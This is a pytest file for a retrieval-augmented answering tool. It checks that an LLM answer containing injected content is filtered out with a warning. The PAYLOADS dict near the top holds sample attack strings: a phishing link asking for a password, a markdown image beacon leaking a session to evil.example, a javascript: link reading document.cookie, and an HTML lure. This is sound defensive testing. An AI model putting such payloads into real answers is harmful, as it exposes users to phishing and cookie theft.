"""An LLM answer that copies a true sentence and adds an injected one (a phishing link, "visit ...", markup) is not
delivered as is: a sentence that no cited abstract supports is left out with a warning, and a link that no cited
abstract contains never appears, in `rag ask`, `--json`, the Python API (invoke and stream) and the UI's `/ask`.
The model is the fake OpenAI-compatible server, scripted to obey the injection."""

from __future__ import annotations

import json
import re

import pytest
from fake_llm import Reply, last_user_text
from reltools import cli, serve

from rag import Answer
from rag.untrusted import unlinked

QUESTION = "What FID does the four-step distilled student reach on CIFAR-10?"
DISTILL = "Distilling Diffusion Samplers into Few-Step Students"
TRUE = "The four-step student reaches an FID of 3.1 on CIFAR-10 [{n}]."
# What an obeying model adds: each is a kind of payload, none is in any abstract.
PAYLOADS = {
    "phishing": "For the full results visit https://evil.example/login and enter your account password [{n}].",
    "www-link": "Download the checkpoints from www.evil.example/ckpt today [{n}].",
    "markdown-image": "![results](https://evil.example/pixel.png?leak=session) See the figure above [{n}].",
    "markdown-link": "Read the [official summary](javascript:alert(document.cookie)) before citing it [{n}].",
    "markup": '<a href="https://evil.example">Click here</a> to claim your reward now [{n}].',
    "uncited-claim": "This method is the best one ever published and you should use it.",
}


def n_of(request: dict) -> str:
    m = re.search(r"\[(\d+)\] " + re.escape(DISTILL), last_user_text(request))
    assert m
    return m.group(1)


def obeying(payload: str):
    def reply(request: dict) -> Reply:
        n = n_of(request)
        return Reply(f"{TRUE.format(n=n)} {payload.format(n=n)}")

    return reply


def shown(ans: Answer) -> str:
    """Everything the user is shown of an answer: its text, quotes and warning."""
    return " ".join([ans.answer, ans.warning or "", *(c.supporting for c in ans.citations)])


def assert_payload_gone(ans: Answer) -> None:
    assert ans.generator == "openai" and "3.1" in ans.answer  # the true sentence is kept
    text = shown(ans).lower()
    for word in ("evil.example", "javascript:", "password", "click here", "best one ever", "pixel.png"):
        assert word not in text, (word, ans.answer)
    assert "left out 1 sentence" in ans.warning
    assert ans.grounding.supported_fraction == 1.0  # what is shown is supported


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
@pytest.mark.parametrize("mode", ["invoke", "stream"])
def test_an_injected_sentence_is_left_out_with_a_warning(llm_assistant, fake_llm, kind, mode):
    fake_llm.set_default(obeying(PAYLOADS[kind]))
    a = llm_assistant()
    ans = a.ask(QUESTION) if mode == "invoke" else list(a.stream(QUESTION))[-1]
    assert_payload_gone(ans)


def test_rag_ask_warns_and_never_prints_the_payload(tiny_home, shared_model, fake_llm, monkeypatch):
    fake_llm.set_default(obeying(PAYLOADS["phishing"]))
    monkeypatch.setenv("RAG_HOME", str(tiny_home))
    monkeypatch.setenv("RAG_LLM_BASE_URL", fake_llm.base_url)
    result = cli(["ask", QUESTION])
    assert result.exit_code == 0
    assert "3.1" in result.stdout and "evil.example" not in result.output
    assert "warning: " in result.stderr and "left out 1 sentence of the LLM answer" in result.stderr
    data = json.loads(cli(["ask", QUESTION, "--json"]).stdout)
    assert "evil.example" not in json.dumps(data)


def test_a_link_inside_a_supported_sentence_is_removed_not_linked(llm_assistant, fake_llm):
    def reply(request: dict) -> Reply:
        return Reply(
            f"The four-step student reaches an FID of 3.1 on CIFAR-10, see https://evil.example/x [{n_of(request)}]."
        )

    fake_llm.set_default(reply)
    ans = llm_assistant().ask(QUESTION)
    assert ans.generator == "openai" and "3.1" in ans.answer
    assert "evil.example" not in ans.answer and "[link removed]" in ans.answer
    assert "removed 1 link that no cited abstract contains" in ans.warning


def test_links_the_cited_abstracts_contain_are_kept():
    abstract = "Code and models are at https://github.com/example/distil. We also release www.example.org/data."
    text, removed = unlinked(
        "Code: https://github.com/example/distil. Data: [here](www.example.org/data). Also https://evil.example/a.",
        abstract,
    )
    assert "https://github.com/example/distil" in text and "here (www.example.org/data)" in text
    assert removed == ["https://evil.example/a"] and "evil" not in text


@pytest.mark.server
def test_the_ui_api_never_returns_the_payload(llm_assistant, fake_llm):
    from gradio_client import Client

    fake_llm.set_default(obeying(PAYLOADS["phishing"]))
    demo = serve(llm_assistant())
    try:
        answer = Client(demo.local_url, verbose=False).predict(QUESTION, [], api_name="/ask")
        assert "3.1" in answer["answer"] and "evil.example" not in json.dumps(answer)
        assert "left out 1 sentence" in answer["warning"]
    finally:
        demo.close()
